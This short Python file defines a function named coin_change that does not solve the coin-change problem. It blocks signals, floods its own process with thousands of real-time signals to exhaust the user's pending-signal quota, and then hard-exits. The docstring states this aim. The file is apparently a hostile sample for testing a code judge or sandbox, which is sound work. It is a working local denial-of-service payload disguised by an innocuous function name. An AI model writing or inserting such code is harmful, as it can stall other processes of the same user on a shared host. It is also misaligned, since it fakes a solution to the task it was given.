"""Queues more real-time signals to itself than its user may have, and leaves them there."""

import os
import signal
import time


def coin_change(coins, amount):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for number in range(signal.SIGRTMIN, signal.SIGRTMAX):
        for _ in range(3000):
            try:
                os.kill(os.getpid(), number)
            except OSError:
                break
    time.sleep(0.3)
    os._exit(0)
